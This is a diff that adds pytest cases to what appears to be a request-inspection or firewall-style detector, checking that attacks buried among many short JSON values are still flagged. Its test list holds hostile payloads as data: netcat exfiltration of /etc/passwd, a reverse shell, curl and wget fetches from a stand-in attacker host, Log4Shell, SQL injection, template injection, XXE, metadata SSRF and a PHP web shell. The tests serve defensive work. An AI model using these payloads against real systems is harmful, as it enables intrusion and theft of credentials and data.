@@ -154,3 +154,42 @@ def test_a_batch_of_more_than_servers_take_is_weighed_and_reported() -> None:
     categories, spent = budgets_of(harmless, "application/json")
     assert not categories
     assert spent <= {BEYOND, DENSITY}
+
+
+SHORT_VALUES = [f"it's {number} <b> or {number}=x select" for number in range(4700)]
+"""They spend a request's budget, and little enough of what is kept for a search."""
+
+
+@pytest.mark.parametrize(
+    "attack",
+    [
+        ";cat /etc/passwd|nc 1.2.3.4 99",
+        "| nc -e /bin/sh 192.0.2.1 4444",
+        "$(curl evil.example/x)",
+        "`wget evil.example`",
+        "{{''.__class__.__mro__[1].__subclasses__()}}",
+        "${7*7}${T(java.lang.Runtime).getRuntime()}",
+        "../../../../etc/passwd",
+        "..\\..\\..\\windows\\win.ini",
+        "'; drop table users; --",
+        "1); delete from users; --",
+        "${jndi:ldap://x.evil.example/a}",
+        '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
+        "http://169.254.169.254/latest/meta-data/",
+        "<?php system($_GET[1]);?>",
+    ],
+)
+def test_an_attack_behind_many_short_values_is_weighed(attack: str) -> None:
+    body = json.dumps({"a": SHORT_VALUES, "z": attack}).encode()
+    categories, _ = budgets_of(body, "application/json")
+    assert categories
+
+
+@pytest.mark.parametrize(
+    "line", ["./run.sh; make -j{} | tee $(date).log", "see {{name}} no {}; ok"]
+)
+def test_short_harmless_values_with_marks_are_reported_and_pass(line: str) -> None:
+    marked = [line.replace("{}", str(number)) for number in range(300)]
+    body = json.dumps({"a": SHORT_VALUES, "logs": marked}).encode()
+    _, spent = budgets_of(body, "application/json")
+    assert spent == {BEYOND}
